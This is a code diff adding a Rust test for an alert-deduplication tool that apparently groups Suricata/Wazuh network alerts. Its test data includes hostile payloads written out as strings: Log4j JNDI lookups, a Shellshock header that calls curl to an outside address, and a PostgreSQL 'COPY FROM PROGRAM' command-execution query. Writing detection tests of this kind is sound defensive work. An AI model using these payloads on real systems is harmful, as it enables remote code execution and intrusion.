@@ -268,6 +268,89 @@ fn with_whom_and_about_what_a_conversation_was_that_a_signature_met_is_news() {
 }
 
 #[test]
+fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_news() {
+    let seen = |data: Value| {
+        let mut alert = decoded(
+            "json",
+            json!({"event_type": "alert", "src_ip": "10.0.0.2", "src_port": 40001, "dest_ip": "10.0.0.5", "dest_port": 80, "flow_id": 17,
+                "alert": {"signature_id": 2_034_647, "signature": "ET EXPLOIT Log4j", "action": "allowed"}}),
+        );
+        for (name, value) in data.as_object().unwrap() {
+            alert["data"][name] = value.clone();
+        }
+        // Wazuh has taken the line apart.
+        alert["full_log"] = json!(alert["data"].to_string());
+        alert
+    };
+    let http =
+        |name: &str, text: &str| json!({"http": {"hostname": "a", "url": "/", "http_method": "GET", name: text}});
+    let bound = |uuid: &str, opnum: u32| json!({"dcerpc": {"interfaces": [{"uuid": uuid, "version": "1.0"}], "req": {"opnum": opnum}, "call_id": opnum}});
+    let request = |opnum: u32, call: u32| json!({"smb": {"session_id": call, "dcerpc": {"request": "REQUEST", "opnum": opnum, "call_id": call}}});
+    let query = |text: &str| json!({"pgsql": {"request": {"simple_query": text}}});
+    let jndi = |host: &str| http("http_user_agent", &format!("${{jndi:ldap://{host}/a}}"));
+    for (one, other) in [
+        (json!({"xff": "198.51.100.1"}), json!({"xff": "203.0.113.77"})),
+        (http("xff", "198.51.100.1"), http("xff", "203.0.113.77")),
+        (
+            json!({"xff": "198.51.100.1, 10.0.0.9"}),
+            json!({"xff": "203.0.113.77, 10.0.0.9"}),
+        ),
+        (
+            json!({"smb": {"ntlmssp": {"domain": "C", "user": "guest"}}}),
+            json!({"smb": {"ntlmssp": {"domain": "C", "user": "administrator"}}}),
+        ),
+        (
+            json!({"smb": {"named_pipe": r"\\samr"}}),
+            json!({"smb": {"named_pipe": r"\\svcctl"}}),
+        ),
+        (
+            json!({"email": {"from": "a@one.example", "to": ["bob@c.example"]}}),
+            json!({"email": {"from": "z@two.example", "to": ["bob@c.example"]}}),
+        ),
+        (
+            json!({"email": {"to": ["bob@c.example"], "attachment": ["a.pdf"]}}),
+            json!({"email": {"to": ["bob@c.example"], "attachment": ["pay.exe"]}}),
+        ),
+        (jndi("198.51.100.1"), jndi("203.0.113.77")),
+        (
+            http("http_refer", "() { :; }; curl 198.51.100.1"),
+            http("http_refer", "() { :; }; curl 203.0.113.77"),
+        ),
+        (query("select version"), query("COPY x FROM PROGRAM 'id'")),
+        (request(15, 1), request(12, 1)),
+        (
+            bound("12345778-1234-abcd-ef00-0123456789ac", 15),
+            bound("367abb81-9844-35f1-ad32-98f038001003", 15),
+        ),
+    ] {
+        let [one, other] = [seen(one), seen(other)];
+        assert_eq!(of(&one).key, of(&other).key, "many are bounded in one window");
+        assert!(folds(&one, &one), "{one}");
+        assert!(!folds(&one, &other), "{one} {other}");
+    }
+    for (one, other) in [
+        (http("http_user_agent", "curl/8.1"), http("http_user_agent", "curl/8.2")),
+        (http("http_user_agent", "x"), http("http_refer", "https://a.example/17")),
+        (
+            query("SELECT * FROM t WHERE id = 17"),
+            query("select * from t where id = 18"),
+        ),
+        (request(15, 1), request(15, 2)),
+        (
+            json!({"smb": {"named_pipe": "samr", "session_id": 17, "tree_id": 1}}),
+            json!({"smb": {"named_pipe": "samr", "session_id": 18, "tree_id": 5}}),
+        ),
+        (
+            json!({"xff": "198.51.100.1", "flow_id": 18, "src_port": 40002}),
+            json!({"xff": "198.51.100.1", "flow_id": 19, "src_port": 40003}),
+        ),
+    ] {
+        let [one, other] = [seen(one), seen(other)];
+        assert!(folds(&one, &other), "{:?} {:?}", of(&one), of(&other));
+    }
+}
+
+#[test]
 fn one_alert_with_many_values_does_not_use_up_what_a_window_remembers() {
     let files: Vec<String> = (0..20).map(|n| format!("file:_C:\\\\a{n}.exe")).collect();
     let alert = event(1116, "x", json!({"path": files.join("; ")}));
